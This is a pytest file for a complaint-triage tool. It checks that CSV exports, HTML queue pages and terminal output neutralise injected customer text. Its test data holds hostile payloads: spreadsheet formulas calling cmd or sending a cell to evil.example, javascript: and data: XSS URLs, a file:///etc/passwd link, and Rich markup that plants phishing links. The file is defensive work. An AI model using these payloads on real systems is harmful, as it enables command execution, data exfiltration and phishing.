"""What a customer wrote never runs as a formula, a script link or terminal markup."""

from __future__ import annotations

import csv
import io

import pytest
from rich.console import Console

from tests.reports.conftest import DAY1, SINCE, UNTIL, _add
from triage.config import Settings
from triage.links import web_url
from triage.reports import build_report
from triage.store import Analysis, Case, Mention
from triage.views import QueueRow, print_queue, render_queue_html

FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
]


def test_csv_cells_that_could_run_as_formulas_are_text(engine, tmp_path):
    for n, text in enumerate([*FORMULAS, "plain words - with a dash"], start=1):
        _add(engine, n, DAY1, text=text)
    report = build_report(engine, Settings(), SINCE, UNTIL)
    [path] = report.write(tmp_path / "r.csv", "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    cells = {row["mention_id"]: row["text"] for row in rows}
    assert len(cells) == len(FORMULAS) + 1
    by_text = {text: cells[str(n)] for n, text in enumerate(FORMULAS, start=1)}
    # Each keeps every character and gains the quote spreadsheets read as "this is text".
    assert by_text == {text: "'" + text for text in FORMULAS}
    assert cells[str(len(FORMULAS) + 1)] == "plain words - with a dash"
    # Numbers stay numbers.
    assert {row["urgency"] for row in rows} == {"50"}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "https://",
        "//evil.example/x",
        "http://[::1",
    ],
)
def test_only_web_addresses_are_links(url):
    assert web_url(url) is None


def test_web_addresses_pass_unchanged():
    assert web_url("https://x.com/anna/status/1") == "https://x.com/anna/status/1"
    assert web_url("HTTP://Example.com/a?b=c#d") == "HTTP://Example.com/a?b=c#d"
    assert web_url(None) is None and web_url("") is None


def _row(*, text: str, url: str | None, platform: str = "x", author: str = "Anna") -> QueueRow:
    mention = Mention(
        id=7, source="imports", external_id="7", platform=platform, text=text, url=url,
        author_name=author,
    )  # fmt: skip
    analysis = Analysis(
        mention_id=7, language="en", sentiment="negative", p_negative=0.9, p_neutral=0.05,
        p_positive=0.05, complaint_probability=0.9, kind="complaint", intents=["billing"],
        urgency=60, priority="P2", reasons=["negative tone (90%)"], model_version="test",
    )  # fmt: skip
    return QueueRow(Case(id=3, mention_id=7), mention, analysis, None)


def test_the_queue_page_links_only_web_addresses():
    rows = [
        _row(text="first", url="javascript:alert(document.cookie)"),
        _row(text="second", url="https://x.com/anna/status/1"),
    ]
    html = render_queue_html(rows, brand="Kestrel")
    assert "javascript:" not in html
    assert html.count("<a href=") == 1 and 'href="https://x.com/anna/status/1"' in html


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("text", "\\[link=https://evil.example]click here[/link] to fix your bill"),
        ("text", "[link=https://evil.example]click here[/link] to fix your bill"),
        ("platform", "[link=https://evil.example]x[/link]"),
        ("author", "\\[b]Kestrel[/b]"),
    ],
)
def test_the_terminal_queue_shows_markup_as_written(where, value):
    fields = {"text": "My bill is wrong", "url": None, where: value}
    out = io.StringIO()
    console = Console(file=out, width=400, color_system=None, force_terminal=False)
    print_queue([_row(**fields)], console)
    shown = out.getvalue()
    assert value in shown


def test_the_queue_title_counts_what_is_open_not_the_limit():
    out = io.StringIO()
    console = Console(file=out, width=200, color_system=None, force_terminal=False)
    print_queue([_row(text="My bill is wrong", url=None)], console, total=94)
    assert "Open queue (1 of 94 open), worst first" in out.getvalue()
    out = io.StringIO()
    console = Console(file=out, width=200, color_system=None, force_terminal=False)
    print_queue([_row(text="My bill is wrong", url=None)], console, total=1)
    assert "Open queue (1), worst first" in out.getvalue()
